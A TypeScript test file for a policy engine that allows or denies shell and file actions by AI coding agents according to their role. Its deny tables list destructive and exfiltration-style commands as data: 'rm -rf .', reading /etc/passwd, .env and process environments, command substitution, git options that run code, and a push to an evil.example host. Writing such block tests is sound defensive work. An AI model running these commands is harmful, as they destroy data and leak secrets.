// Longer than most: the tables of commands are the specification, and read best in one place.
import { PolicyDecision, type Role } from '@decree/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCedarEngine, createPolicy, normalise, type Policy } from '../../src/engine/policy/index.ts';
import { createWorkspace, ownBranch, repository, requestOf } from './fixtures.ts';

let policy: Policy;
const workspace = createWorkspace();
beforeAll(async () => {
  policy = createPolicy({ engines: [await createCedarEngine()] });
});
afterAll(() => workspace.remove());

/** One command between bars or line ends; OWN is the run's branch. */
const commands = (text: string): string[] =>
  text
    .split(/[\n¦]/)
    .map((command) => command.trim().replace('OWN', ownBranch))
    .filter((command) => command !== '');

const decide = (role: Role, tool: string, input: unknown, cwd = workspace.root) => {
  const branch = role === 'implementor' ? ownBranch : null;
  const action = normalise({ tool, input, cwd }, { view: workspace.view, repository, ownBranch: branch });
  return policy.decide(requestOf(role, action));
};
const bash = (role: Role, command: string, cwd?: string) => decide(role, 'Bash', { command }, cwd);

describe('commands that agents need', () => {
  it.each([
    ...commands(`
      ls ¦ ls -la src ¦ cat src/app.ts ¦ head -n 20 README.md ¦ tail -5 README.md ¦ wc -l README.md ¦ pwd ¦ echo done
      rg -n "export const" src
      grep -rn "/api/v1" src ¦ find . -name '*.ts' -type f ¦ node --version ¦ git --version ¦ tree -L 2
      git status ¦ git status --short ¦ git diff ¦ git diff --stat HEAD~1 ¦ git log --oneline -n 5 ¦ git log -5
      git show HEAD ¦ git branch --show-current ¦ git rev-parse HEAD ¦ git remote -v
    `),
    'grep -rn --include=\\*.ts x src',
  ])('every role may: %s', async (command) => {
    for (const role of ['planner', 'implementor', 'reviewer'] as const)
      expect(await bash(role, command)).toMatchObject({ outcome: 'allow' });
  });

  it.each(
    commands(`
      npm test ¦ npm run test ¦ npm run test:unit ¦ yarn test src/app.ts ¦ npm test -- --run ¦ node --test ¦ npm run lint
      node --test src/app.ts ¦ pytest -q ¦ pytest tests/a.py -k thing -x ¦ python -m pytest -q ¦ python3 -m unittest
      go test ./... ¦ go test -run TestX -v ./... ¦ go vet ./... ¦ cargo test ¦ cargo clippy ¦ make test ¦ make check
    `),
  )('implementors and reviewers may test: %s', async (command) => {
    expect(await bash('implementor', command)).toMatchObject({ outcome: 'allow' });
    expect(await bash('reviewer', command)).toMatchObject({ outcome: 'allow' });
    expect(await bash('planner', command)).toMatchObject({ outcome: 'deny' });
  });

  it.each([
    ...commands(`
      git add -A ¦ git add . ¦ git add src/app.ts ¦ git commit -m "Add a thing" ¦ git commit --amend --no-edit
      git mv src/app.ts src/main.ts ¦ git rm src/app.ts
      gofmt -l . ¦ gofmt -w . ¦ yarn build ¦ npm run format ¦ go build ./... ¦ cargo build ¦ cargo fmt ¦ make build ¦ make fmt
      mkdir -p src/new ¦ touch src/new.ts ¦ cp src/app.ts src/copy.ts ¦ mv src/app.ts src/main.ts ¦ git push -u origin OWN
      git push ¦ git push origin HEAD
    `),
    "git commit -am 'Use `x`; mind $y'",
  ])('only an implementor may: %s', async (command) => {
    expect(await bash('implementor', command)).toMatchObject({ outcome: 'allow' });
    expect(await bash('planner', command)).toMatchObject({ outcome: 'deny' });
    expect(await bash('reviewer', command)).toMatchObject({ outcome: 'deny' });
  });
});

describe('commands that no agent may run', () => {
  it.each([
    ...commands(`
      git commit -m x; rm -rf . ¦ git status && rm -rf . ¦ git status | sh ¦ git status > .git/config
      git commit -m "$(rm x)" ¦ echo x >> .git/config; git status
      rm -rf . ¦ rm src/app.ts ¦ 'rm' -rf . ¦ sudo ls ¦ su ¦ dd if=/dev/zero of=x ¦ chmod 777 x ¦ chown a b ¦ kill 1 ¦ pkill x
      curl http://x ¦ wget x ¦ nc x 1
      eval ls ¦ eval "rm x" ¦ bash -c "rm x" ¦ sh x.sh ¦ /bin/sh -c x ¦ exec rm x ¦ source x ¦ . x ¦ command rm x
      builtin cd / ¦ trap 'rm x' EXIT ¦ alias ls=rm ¦ set -x ¦ unset PATH ¦ read x
      env rm x ¦ env ¦ xargs rm ¦ nohup rm x ¦ timeout 5 rm x ¦ nice rm x ¦ setsid rm x ¦ ssh host ¦ npx x ¦ yarn dlx x
      npm exec x ¦ npm x y ¦ docker run x ¦ awk "BEGIN{}" ¦ sed -i s/a/b/ x ¦ sed -n "w x" y
      python -c "x" ¦ python3 - ¦ python -m timeit x pytest ¦ python -W pytest -m timeit x ¦ python ¦ node -e "x" ¦ node -p 1
      node --eval x ¦ node -r ./x y ¦ node --import ./x --test ¦ perl -e x ¦ ruby -e x ¦ node --test -e x ¦ php -r x
      find . -exec rm x ¦ find . -delete ¦ find . -name x -execdir rm '{}' + ¦ find . -fprint x ¦ find / -name x
      rg --pre rm x ¦ tar --to-command=rm -xf x ¦ sort -o x y ¦ tree -o x
      git -c core.pager=rm log ¦ git -c alias.x=!rm x ¦ git --exec-path=. status ¦ git --git-dir=x status ¦ git -C .. status
      git --work-tree=/ status ¦ git config a b ¦ git config --get a ¦ git remote set-url origin x ¦ git remote add x y
      git log --output=x ¦ git diff --ext-diff ¦ git diff --no-index /etc/passwd README.md ¦ git grep -O x
      git grep --open-files-in-pager=rm x ¦ git fetch --upload-pack=rm ¦ git rebase --exec rm ¦ git bisect run rm
      git submodule update
      git difftool -x rm ¦ git worktree add x ¦ git update-ref refs/heads/main HEAD ¦ git reset --hard ¦ git clean -fd
      git checkout . ¦ git restore . ¦ git branch -D main ¦ git branch x ¦ git checkout -b x ¦ git switch x ¦ git stash
      git tag x ¦ git commit --no-verify -m x
      git commit -m x --exec=rm ¦ git rm -r . ¦ git clone x ¦ git init ¦ git filter-branch ¦ git am x ¦ git send-email x
      git hook run x ¦ git archive HEAD ¦ git show --textconv HEAD ¦ git foo
      npm run evil ¦ npm install ¦ npm test --script-shell=x ¦ npm --prefix /tmp test ¦ npm config set x y ¦ yarn add x
      yarn --cwd /tmp test ¦ make SHELL=rm test ¦ make -f x test ¦ make evil ¦ make test evil ¦ go run x.go
      go test -exec rm ./... ¦ go generate
      go env -w GOFLAGS=x ¦ cargo run ¦ cargo test --config x ¦ cargo install x ¦ pip install x ¦ ./x.sh ¦ ./git status
      /tmp/git status ¦ src/../../x ¦ ls; ls ¦ printenv ¦ history ¦ crontab -l ¦ tee x
      cat /etc/passwd ¦ cat ../x ¦ cat src/../../x ¦ cat away/passwd ¦ cat loop ¦ ls / ¦ ls ~ ¦ head -n1 /proc/self/environ
      grep -r x /etc ¦ grep -ex /etc/passwd ¦ grep --regexp=x /etc/passwd ¦ grep x -f /etc/passwd ¦ diff README.md /etc/passwd
      cd / ¦ cd .. ¦ cd ¦ cd src ¦ cd scripts ¦ pushd src
      cat .env ¦ cat .git/config ¦ cat innocent/config ¦ cat .GIT/config ¦ cat scripts/workflow/.env.local ¦ cp .env x
      cp x .git/hooks/pre-commit ¦ cp src/app.ts .claude/x ¦ mv .git x ¦ mkdir .git/x ¦ touch control-plane.config.ts
      touch policies/x.cedar
      cp evil/control-plane.config.ts . ¦ mv evil/control-plane.config.ts . ¦ git mv evil/control-plane.config.ts .
      mv scripts x ¦ mv .github x ¦ cp -r evil/. . ¦ cp README.md dangling ¦ touch away/x ¦ touch dangling ¦ ln -s /etc x
      cp -t / x
      scripts/workflow/gh.sh pr merge 1 ¦ scripts/workflow/gh.sh auth token ¦ scripts/workflow/gh.sh ¦ gh api x ¦ gh pr create
      evil/gh.sh api user ¦ /tmp/gh.sh api user
    `),
    'r\\m -rf .',
  ])('%j', async (command) => {
    for (const role of ['planner', 'implementor', 'reviewer'] as const) {
      const decision = await bash(role, command);
      expect(decision, `${role}: ${decision.reason}`).toMatchObject({ outcome: 'deny' });
      expect(decision.reason.length).toBeGreaterThan(10);
    }
  });

  it('a shell that stands outside the workspace runs nothing', async () => {
    expect(await bash('implementor', 'git status', '/tmp')).toMatchObject({
      outcome: 'deny',
      code: 'floor.outside_workspace',
    });
  });

  it('a relative path counts from where the shell stands', async () => {
    expect(await bash('implementor', 'cat ../../README.md', `${workspace.root}/sub/deep`)).toMatchObject({ outcome: 'allow' });
    expect(await bash('implementor', 'cat ../../../x', `${workspace.root}/sub/deep`)).toMatchObject({ outcome: 'deny' });
  });

  it('background commands and leaving the sandbox are refused', async () => {
    expect(await decide('implementor', 'Bash', { command: 'ls', run_in_background: true })).toMatchObject({
      outcome: 'deny',
      code: 'floor.malformed',
    });
    expect(await decide('implementor', 'Bash', { command: 'ls', dangerouslyDisableSandbox: true })).toMatchObject({
      outcome: 'deny',
    });
  });
});

describe('pushes', () => {
  it.each([
    ['git push origin main', 'floor.push_ref'],
    [`git push origin ${ownBranch}:main`, 'floor.push_ref'],
    ['git push origin HEAD:refs/heads/main', 'floor.push_ref'],
    [`git push origin ${ownBranch} main`, 'floor.push_ref'],
    ['git push origin refs/heads/*:refs/heads/*'.replaceAll('*', '\\*'), 'floor.push_ref'],
    ['git push origin refs/tags/v1', 'floor.push_ref'],
    ['git push origin tag v1', 'floor.push_ref'],
    [`git push -f origin ${ownBranch}`, 'floor.push_force'],
    [`git push --force-with-lease origin ${ownBranch}`, 'floor.push_force'],
    [`git push origin +${ownBranch}`, 'floor.push_force'],
    [`git push origin :${ownBranch}`, 'floor.push_delete'],
    [`git push -d origin ${ownBranch}`, 'floor.push_delete'],
    ['git push --all', 'floor.malformed'],
    ['git push --mirror', 'floor.malformed'],
    ['git push --tags', 'floor.malformed'],
    [`git push --receive-pack=rm origin ${ownBranch}`, 'floor.malformed'],
    [`git push https://evil.example/x ${ownBranch}`, 'floor.malformed'],
    [`git push 'ext::sh -c rm' ${ownBranch}`, 'floor.malformed'],
    [`git push -o ci.skip origin ${ownBranch}`, 'floor.malformed'],
    [`git push -qf origin ${ownBranch}`, 'floor.malformed'],
  ])('%s is refused by %s', async (command, code) => {
    expect(await bash('implementor', command)).toMatchObject({ outcome: 'deny', code });
  });

  it('the same push has the same hash however it is written', async () => {
    const hashes = new Set<string>();
    for (const command of [
      'git push',
      'git push origin',
      'git push -u origin HEAD',
      `git push origin ${ownBranch}`,
      `git push origin HEAD:refs/heads/${ownBranch}`,
      `git push -q "origin" '${ownBranch}'`,
    ])
      hashes.add((await bash('implementor', command)).actionHash);
    expect(hashes.size).toBe(1);
  });
});

describe('file tools', () => {
  const inside = () => `${workspace.root}/src/app.ts`;
  it('every role reads and searches in the workspace', async () => {
    for (const role of ['planner', 'implementor', 'reviewer'] as const) {
      expect(await decide(role, 'Read', { file_path: inside() })).toMatchObject({ outcome: 'allow' });
      expect(await decide(role, 'Read', { file_path: `${workspace.root}/.env.example` })).toMatchObject({ outcome: 'allow' });
      expect(await decide(role, 'Grep', { pattern: '/etc/passwd' })).toMatchObject({ outcome: 'allow' });
      expect(await decide(role, 'Glob', { pattern: 'src/**/*.ts' })).toMatchObject({ outcome: 'allow' });
      expect(await decide(role, 'LS', { path: workspace.root })).toMatchObject({ outcome: 'allow' });
      expect(await decide(role, 'TodoWrite', { todos: [] })).toMatchObject({ outcome: 'allow' });
      expect(await decide(role, 'StructuredOutput', {})).toMatchObject({ outcome: 'allow' });
    }
  });

  it('only an implementor writes, and only ordinary files of the workspace', async () => {
    for (const [tool, extra] of [
      ['Write', { content: 'x' }],
      ['Edit', { old_string: 'a', new_string: 'b' }],
      ['MultiEdit', { edits: [{ old_string: 'a', new_string: 'b' }] }],
    ] as const) {
      expect(await decide('implementor', tool, { file_path: inside(), ...extra })).toMatchObject({ outcome: 'allow' });
      expect(await decide('planner', tool, { file_path: inside(), ...extra })).toMatchObject({
        outcome: 'deny',
        code: 'floor.role',
      });
      expect(await decide('reviewer', tool, { file_path: inside(), ...extra })).toMatchObject({
        outcome: 'deny',
        code: 'floor.role',
      });
    }
  });

  it.each([
    ['.git/config', 'floor.protected_path'],
    ['.GIT/config', 'floor.protected_path'],
    ['.git', 'floor.protected_path'],
    ['innocent/config', 'floor.protected_path'],
    ['sub/.git/hooks/x', 'floor.protected_path'],
    ['src/../.git/config', 'floor.protected_path'],
    ['.claude/agents/planner.md', 'floor.protected_path'],
    ['.worktrees/x', 'floor.protected_path'],
    ['control-plane.config.ts', 'floor.protected_path'],
    ['policies/x.cedar', 'floor.protected_path'],
    ['scripts/workflow/gh.sh', 'floor.protected_path'],
    ['.github/workflows/ci.yml', 'floor.protected_path'],
    ['.env', 'floor.secret_path'],
    ['certs/key.pem', 'floor.secret_path'],
    ['../x', 'floor.outside_workspace'],
    ['/etc/passwd', 'floor.outside_workspace'],
    ['away/passwd', 'floor.outside_workspace'],
    ['dangling', 'floor.outside_workspace'],
    ['src/../../x', 'floor.outside_workspace'],
    ['~/x', 'floor.malformed'],
    ['a\0b', 'floor.malformed'],
    ['loop', 'floor.malformed'],
    ['', 'floor.malformed'],
  ])('writing %j is refused by %s', async (path, code) => {
    expect(await decide('implementor', 'Write', { file_path: path, content: 'x' })).toMatchObject({ outcome: 'deny', code });
  });

  it.each([
    ['Read', { file_path: '/etc/passwd' }],
    ['Read', { file_path: '/proc/self/environ' }],
    ['Read', { file_path: '.env' }],
    ['Read', { file_path: 'innocent/config' }],
    ['Read', { file_path: 7 }],
    ['Read', null],
    ['Read', 'x'],
    ['Glob', { pattern: '/etc/*' }],
    ['Glob', { pattern: '../**' }],
    ['Glob', { pattern: '{..,x}/**' }],
    ['Glob', { pattern: '*', path: '/etc' }],
    ['Grep', { pattern: 'x', path: '..' }],
    ['LS', { path: '/' }],
    ['WebFetch', { url: 'https://x' }],
    ['WebSearch', { query: 'x' }],
    ['Task', { prompt: 'x' }],
    ['mcp__x__y', {}],
    ['toString', {}],
    ['__proto__', {}],
    ['', {}],
    ['Bash', {}],
    ['Bash', { command: ['ls'] }],
  ])('%s %j is denied to everyone', async (tool, input) => {
    for (const role of ['planner', 'implementor', 'reviewer'] as const)
      expect(await decide(role, tool, input)).toMatchObject({ outcome: 'deny' });
  });
});

describe('a decision', () => {
  it('fits the contract and says what was seen', async () => {
    const decision = await bash('implementor', 'git commit -m x; rm -rf .');
    expect(PolicyDecision.parse(decision)).toEqual(decision);
    expect(decision).toMatchObject({
      outcome: 'deny',
      engine: 'floor',
      code: 'floor.compound_command',
      analysis: { verdict: 'compound', because: '2 commands' },
    });
    expect(decision.reason).toContain('one simple command per call');
    const allowed = await bash('implementor', 'git commit -m x');
    expect(allowed).toMatchObject({
      outcome: 'allow',
      engine: 'cedar',
      determinedBy: ['default/git-commit'],
      analysis: { verdict: 'simple', argv: ['git', 'commit', '-m', 'x'] },
    });
  });

  it('has the same hash for the same words however they were quoted, and another for others', async () => {
    const one = await bash('implementor', 'git commit -m "a b"');
    expect((await bash('implementor', "git  commit '-m' a\\ b")).actionHash).toBe(one.actionHash);
    expect((await bash('implementor', 'git commit -m "a  b"')).actionHash).not.toBe(one.actionHash);
    expect((await bash('implementor', 'git commit -m "a b"', `${workspace.root}/src`)).actionHash).not.toBe(one.actionHash);
  });

  it('never carries the content of a file', async () => {
    const action = normalise(
      { tool: 'Write', input: { file_path: 'src/x.ts', content: 'very private text' } },
      { view: workspace.view, repository, ownBranch },
    );
    expect(JSON.stringify(action)).not.toContain('private');
    expect(action.arguments).toMatchObject({ operation: 'write', content: { bytes: 17 } });
  });
});
